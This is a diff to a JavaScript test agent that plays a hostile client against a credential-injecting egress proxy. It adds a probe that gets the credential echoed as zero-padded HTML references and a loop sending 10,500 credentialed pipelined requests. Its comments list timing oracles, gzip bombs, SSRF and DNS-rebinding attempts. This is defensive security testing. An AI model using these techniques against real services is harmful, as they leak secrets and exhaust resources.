@@ -1,6 +1,7 @@
 // The third hostile egress agent. MODE=a: it streams guesses at the credential
 // through an upstream it controls (a guess, then a pause) and times what comes back;
-// it asks for a gzip bomb; it makes the upstream break its chunked body in the middle
+// it asks for a gzip bomb and its credential in zero-padded HTML references, sends
+// 10,500 credentialed requests; it makes the upstream break its chunked body in the middle
 // of the echoed credential, then tries the credential again; it hides SSRF attempts in
 // a flood of refusals. MODE=b: it reaches names that rebind to loopback through the
 // host's upstream proxy, then floods the rate limit. MODE=c: it sends requests with
@@ -112,6 +113,14 @@ async function modeA() {
   // 2. A gzip bomb in answer to a credentialed request.
   const bomb = await get(`oracle.test:${plain}`, '/bomb', { Authorization: 'Bearer {{token}}' });
   out.bomb = { status: bomb.status, bytes: bomb.body.length, error: bomb.error };
+
+  // 2b. The credential echoed in zero-padded HTML numeric references; then 10,500
+  //     credentialed requests on one connection (the result keeps their first and last).
+  const html = await get(`oracle.test:${plain}`, '/echo-html', { Authorization: 'Bearer {{token}}' });
+  out.html = { status: html.status, body: html.body };
+  const creds = [];
+  for (let i = 0; i < 10500; i++) creds.push(`GET http://oracle.test:${plain}/cred/${i} HTTP/1.1\r\nHost: oracle.test:${plain}\r\nAuthorization: Bearer {{token}}\r\n\r\n`);
+  out.credentialed = await pipeline(creds);
 
   // 3. The upstream echoes the credential and breaks its chunked body in the middle
   //    of it; then the credential is tried again, and a request without one.
